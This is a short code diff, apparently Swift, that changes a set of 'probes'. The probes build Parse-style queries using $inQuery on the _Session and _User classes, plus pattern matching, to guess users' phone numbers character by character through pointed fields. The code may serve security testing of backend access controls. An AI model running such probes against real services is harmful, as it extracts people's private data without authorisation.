@@ -45,8 +45,9 @@ struct Probes {
         }
         return [
             probe("pattern", .beginning) { ["phone": Probe.pattern($0, "0-9", $1)] },
-            probe("pattern by a pointed field", .beginning, "/classes/ProductReview") {
-                ["user.phone": Probe.pattern($0, "0-9", $1)]
+            probe("pattern by a pointed field", .beginning, "/classes/Product") { guess, number in
+                let condition: JSON = ["user.phone": Probe.pattern(guess, "0-9", number)]
+                return ["brand": ["$inQuery": ["className": "_Session", "where": condition]]]
             },
             probe("pattern in $inQuery", .beginning, "/classes/ProductReview") { guess, number in
                 ["user": ["$inQuery": ["className": "_User", "where": ["phone": Probe.pattern(guess, "0-9", number)]]]]
